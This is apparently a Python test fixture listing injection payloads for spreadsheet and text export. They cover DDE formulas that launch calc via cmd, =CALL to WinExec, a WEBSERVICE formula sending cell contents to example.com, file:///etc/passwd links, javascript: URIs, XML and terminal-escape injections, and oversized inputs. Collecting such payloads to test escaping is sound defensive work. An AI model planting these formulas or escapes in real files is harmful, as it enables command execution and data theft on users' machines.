"""Texts that would do something if anybody took them for more than text."""

from __future__ import annotations

from typing import Final

_FORMULAS: Final = (
    "=1+1", "=A1", "==1+1", "=SUM(A1:A9)", "+1+1", "-1+1", "@SUM(A1)", "{=1+1}", "{=SUM(A1:A9)}",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '=HYPERLINK("https://example.com","klikk")', '=HYPERLINK("file:///etc/passwd")',
    '=WEBSERVICE("https://example.com/?"&A1)', '=IMPORTXML("https://example.com","//a")',
    "=IMPORTDATA('https://example.com')", "=RTD(\"x\",,\"y\")", '=CALL("kernel32","WinExec","J")',
    '=REGISTER("a","b")', "=EXEC(\"calc\")", "=INDIRECT(\"A1\")", "=[annen.xlsx]Ark!A1",
    "='file:///tmp/[annen.xlsx]Ark'!A1", "=_xlfn.FILTERXML(A1,A2)", "of:=1+1", "msoxl:=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1", "'=1+1",
    '"=1+1"', ";=1+1", ",=1+1", "|=1+1", "%=1+1", "=", "+", "-", "@", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
_BLANKS_FIRST: Final = (
    " =1+1", "   =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "a\t=1+1", "a\r=1+1", "a\n=1+1",
    "\x0b=1+1", "\x0c=1+1", "\x00=1+1", "\x1f=1+1", "\x85=1+1", "\u2028=1+1",
)  # fmt: skip
_LINKS: Final = (
    "https://example.com", "http://example.com/?a=b#c", "ftp://example.com", "file:///etc/passwd",
    "file://server/andel", "mailto:kari@example.com", "internal:Ark1!A1", "external:annen.xlsx",
    "external:\\\\server\\andel\\a.exe", "\\\\server\\andel", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "ms-excel:ofe|u|https://example.com/a.xlsm",
    "vbscript:MsgBox(1)", "//example.com/a", "C:\\Windows\\System32\\calc.exe",
)  # fmt: skip
_MARKUP: Final = (
    "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "</si><si><t>x</t></si>", "<r><t>x</t></r>",
    "<r><t>a</t></r><f>1+1</f><r><t>b</t></r>", "<!-- x -->", "<![CDATA[x]]>", "]]>", "&amp;",
    "&lt;f&gt;", "&#61;1+1", "a & b < c > d \" e ' f", "<?xml version='1.0'?>", "_x0041_",
    "_x003D_1+1", "_x005F_", "_x0000_", "_xD83D_", "_x000D_=1+1", "&[Page]", "%s{0}{found}",
    "[bold red]x[/bold red]", ":smile:", "[link=https://example.com]x[/link]",
)  # fmt: skip
_STEERING: Final = (
    "\x1b[31mrød", "\x1b[2J\x1b[H", "\x1b]0;tittel\x07", "\x1b]8;;https://example.com\x07x",
    "\x1b]52;c;eA==\x07", "\x9b31mrød", "a\rb", "a\bb", "\x07", "\x7f", "\u202egpj.exe", "\u2066x",
    "\u200fx", "a\u2029b",
)  # fmt: skip
_STRANGE: Final = (
    "x" * 32_767, "x" * 32_768, "=" * 40_000, "🫐" * 20_000, "<r>" + "&" * 40_000 + "</r>",
    "_x0041_" * 6_000, "🫐", "e\u0301", "\ufffd", "\uffff", "1e999", "NaN", "TRUE", "#REF!", "0x1F",
    "1 450", "2024-01-01", "O'Brien's \"ark\"", "''", "'", "Ark'!A1", "[a]b", "$A$1", "a" * 300,
)  # fmt: skip

PAYLOADS: Final = (*_FORMULAS, *_BLANKS_FIRST, *_LINKS, *_MARKUP, *_STEERING, *_STRANGE)
